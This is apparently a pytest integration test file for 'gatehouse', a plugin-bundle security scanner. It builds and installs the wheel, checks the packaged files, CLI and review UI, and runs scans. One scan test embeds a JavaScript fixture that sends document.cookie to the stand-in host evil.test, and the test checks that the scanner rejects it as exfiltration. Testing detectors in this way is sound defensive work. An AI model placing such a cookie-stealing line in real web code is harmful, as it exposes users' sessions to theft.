"""The wheel works on its own: built, installed from the lock into a fresh venv outside
the checkout, it scans with real clamd and Chromium (the Dockerfile takes the same path)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from scanner.config import Settings
from tests.conftest import BundleMaker
from tests.paths import PROJECT_ROOT

pytestmark = pytest.mark.integration


def _run(
    cmd: list[str],
    cwd: Path | None = None,
    env: dict[str, str] | None = None,
    timeout: float = 600,
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        cmd, capture_output=True, text=True, check=False, cwd=cwd, env=env, timeout=timeout
    )


@pytest.fixture(scope="module")
def venv() -> Iterator[Path]:
    """bin/ of a fresh venv holding the locked dependencies and the project's wheel."""
    # Where a deployment puts it: readable by others, since the browser's driver runs from
    # it as the unprivileged sandbox user (pytest's own temporary root is private).
    base = Path(tempfile.mkdtemp(prefix="gatehouse-installed-"))
    base.chmod(0o755)
    dist = base / "dist"
    built = _run(
        [sys.executable, "-m", "pip", "wheel", "--no-deps", "-q", "-w", str(dist), "."],
        cwd=PROJECT_ROOT,
    )
    assert built.returncode == 0, built.stderr
    wheel = next(dist.glob("gatehouse-*.whl"))
    made = _run([sys.executable, "-m", "venv", str(base / "venv")])
    assert made.returncode == 0, made.stderr
    pip = [str(base / "venv" / "bin" / "python"), "-m", "pip", "--disable-pip-version-check"]
    lock = _run(
        [*pip, "install", "-q", "--require-hashes", "-r", str(PROJECT_ROOT / "requirements.lock")]
    )
    assert lock.returncode == 0, lock.stderr[-3000:]
    own = _run([*pip, "install", "-q", "--no-deps", str(wheel)])
    assert own.returncode == 0, own.stderr[-3000:]
    check = _run([*pip, "check"])
    assert check.returncode == 0, check.stdout
    yield base / "venv" / "bin"
    shutil.rmtree(base, ignore_errors=True)


@pytest.fixture
def env(clamd_settings: Settings, tmp_path: Path) -> dict[str, str]:
    """The user's environment: no checkout on the path, no rules dir, our clamd."""
    clean = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith("GATEHOUSE_") and k not in {"PYTHONPATH", "VIRTUAL_ENV"}
    }
    return {
        **clean,
        "GATEHOUSE_DATA_DIR": str(tmp_path / "data"),
        "GATEHOUSE_WORK_ROOT": str(tmp_path / "work"),
        "GATEHOUSE_CLAMD_SOCKET": str(clamd_settings.clamd_socket_path),
    }


def test_the_installed_package_finds_its_own_files(
    venv: Path, env: dict[str, str], tmp_path: Path
) -> None:
    probe = (
        "import scanner, sandbox.detonation, rules\n"
        "from scanner.config import Settings\n"
        "js = sandbox.detonation.instrumentation('n')\n"
        "print(scanner.__file__, Settings().rules_dir, len(js))"
    )
    out = _run([str(venv / "python"), "-c", probe], cwd=tmp_path, env=env)
    assert out.returncode == 0, out.stderr
    module, rules_dir, instrument = out.stdout.split()
    site = str(venv.parent)
    assert module.startswith(site) and rules_dir.startswith(site)
    assert not module.startswith(str(PROJECT_ROOT))
    assert (Path(rules_dir) / "policy.toml").is_file()
    assert (Path(rules_dir) / "advisories" / "osv-pypa.jsonl").is_file()
    assert int(instrument) > 1000


def test_the_installed_command_answers(venv: Path, env: dict[str, str], tmp_path: Path) -> None:
    import scanner

    version = _run([str(venv / "gatehouse"), "--version"], cwd=tmp_path, env=env)
    assert version.stdout.strip() == f"gatehouse {scanner.__version__}"
    status = _run([str(venv / "gatehouse"), "advisories", "status"], cwd=tmp_path, env=env)
    assert status.returncode == 0, status.stderr
    assert "imported the shipped offline snapshot" in status.stdout


def test_the_installed_package_scans_with_every_stage(
    venv: Path, env: dict[str, str], make_bundle: BundleMaker, tmp_path: Path
) -> None:
    clean = _run(
        [str(venv / "gatehouse"), "scan", str(make_bundle()), "--format", "json"],
        cwd=tmp_path,
        env=env,
        timeout=300,
    )
    assert clean.returncode == 0, clean.stderr
    report = json.loads(clean.stdout)
    assert {s["name"]: s["status"] for s in report["stages"]} == {
        name: "ok"
        for name in (
            "archive",
            "manifest",
            "js-static",
            "python-static",
            "dependencies",
            "libraries",
            "secrets",
            "directives",
            "yara",
            "antivirus",
            "runtime",
            "capabilities",
        )
    }
    assert report["verdict"] == "pass"
    stealer = "var TestPlugin={mount:function(c){new Image().src='https://evil.test/?c='+document.cookie;}};"
    bad = _run(
        [
            str(venv / "gatehouse"),
            "scan",
            str(make_bundle({"dist/bundle.js": stealer})),
            "--format",
            "json",
        ],
        cwd=tmp_path,
        env=env,
        timeout=300,
    )
    verdict = json.loads(bad.stdout)
    assert verdict["verdict"] == "reject"
    assert "exfiltration" in {f["category"] for f in verdict["findings"]}


def test_the_dockerfile_installs_the_same_way() -> None:
    """No Docker engine here: the Dockerfile is read as data, for the path the test took."""
    text = (PROJECT_ROOT / "Dockerfile").read_text()
    assert "--require-hashes -r requirements.lock" in text
    assert "--no-deps ." in text
    assert "GATEHOUSE_RULES_DIR" not in text  # the rules come with the package
    copied = {line.split()[1] for line in text.splitlines() if line.startswith("COPY ")}
    for package in ("scanner", "sandbox", "service", "review_ui", "workers", "rules"):
        assert package in copied, f"the image would lack {package}/"


def test_the_installed_package_serves_the_desk(
    venv: Path, env: dict[str, str], tmp_path: Path
) -> None:
    """Templates and static files ship in the wheel: the sign-in page renders from it."""
    probe = (
        "from review_ui.app import create_app\n"
        "c = create_app().test_client()\n"
        "page = c.get('/login')\n"
        "js = c.get('/static/desk.js')\n"
        "css = c.get('/static/code.css')\n"
        "print(page.status_code, 'csrf_token' in page.get_data(as_text=True),"
        " js.status_code, css.status_code)\n"
    )
    out = _run([str(venv / "python"), "-c", probe], cwd=tmp_path, env=env, timeout=300)
    assert out.returncode == 0, out.stderr[-3000:]
    assert out.stdout.split() == ["200", "True", "200", "200"]
